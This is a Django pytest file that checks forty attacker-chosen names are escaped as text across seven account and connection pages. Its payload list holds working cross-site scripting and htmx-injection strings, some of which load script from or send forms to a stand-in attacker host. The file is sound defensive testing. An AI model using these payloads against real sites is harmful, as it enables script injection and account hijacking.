"""Forty names as attackers choose them, from people and from Amazon: they are text, and change no
tag, no attribute and no script of any page (F7)."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse

from connections import revisions
from connections.models import Connection
from marketplaces.models import MarketplaceAccount
from sellerlegend.organizations.models import Organization
from tests import factories, trips

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x",
    "<math href=javascript:alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<object data=javascript:alert(1)>",
    "<template shadowrootmode=open><b>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    '" hx-on:load="alert(1)',
    "' hx-on::after-request='alert(1)",
    '" hx-on="load: alert(1)',
    '"><b hx-get="//evil.example" hx-trigger=load>',
    '" data-hx-get="//evil.example" x="',
    '"><b data-hx-on:click="alert(1)">',
    '" hx-vals="js:{x: alert(1)}',
    '"}; alert(1); //',
    '{"a": "</script><script>alert(1)</script>"}',
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% now 'Y' %}<b>",
]


class Shape(HTMLParser):
    """A page without its texts: tags, names of attributes, scripts, and where links lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.parts: list[tuple[str, ...]] = []
        self.is_script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.is_script = tag in ("script", "style")
        schemes = [(value or "").partition(":")[0] for name, value in attrs if name == "href"]
        self.parts.append((tag, *sorted(name for name, _ in attrs), *schemes))

    def handle_endtag(self, tag: str) -> None:
        self.is_script = False
        self.parts.append((f"/{tag}",))

    def handle_data(self, data: str) -> None:
        if self.is_script:
            self.parts.append(("script", data))

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment", data))


@pytest.fixture
def organization() -> Organization:
    return factories.make_organization("Acme")


@pytest.fixture
def browser(organization: Organization) -> Client:
    return trips.sign_in(factories.owner_of(organization))


@pytest.fixture
def row(organization: Organization) -> Connection:
    row = factories.make_connection(organization, name="Plain")
    factories.make_account(row)
    return row


def name_it(row: Connection, name: str) -> None:
    """By its people, and by Amazon as the name of the store."""
    Connection._base_manager.filter(pk=row.pk).update(name=name[:80])
    rows = MarketplaceAccount._base_manager.filter(connection=row)
    rows.update(store_name=name)
    Organization.objects.filter(pk=row.organization_id).update(name=name[:80])
    revisions.touch_all(row.organization_id)


def pages_of(row: Connection) -> list[str]:
    slug = row.organization.slug
    return [
        reverse("account_connections", args=[slug]),
        reverse("connection_changes", args=[slug]) + "?since=0",
        *(
            reverse(name, args=[slug, row.pk])
            for name in (
                "connection_details",
                "connection_rename",
                "connection_remove",
                "marketplaces_onboard",
                "ppc_connect",
            )
        ),
    ]


def read(browser: Client, row: Connection) -> dict[str, str]:
    return {url: browser.get(url).content.decode() for url in pages_of(row)}


def shapes(pages: dict[str, str]) -> dict[str, list[tuple[str, ...]]]:
    return {url: Shape(page).parts for url, page in pages.items()}


def test_there_are_forty_and_all_differ() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_is_text_on_every_page(browser: Client, row: Connection, payload: str) -> None:
    name_it(row, "Plain")
    plain = read(browser, row)

    name_it(row, payload)
    pages = read(browser, row)

    assert shapes(pages) == shapes(plain)
    shown = {url: html.escape(payload) in page for url, page in pages.items()}
    assert shown == {url: "Plain" in page for url, page in plain.items()}
    assert sum(shown.values()) >= 6
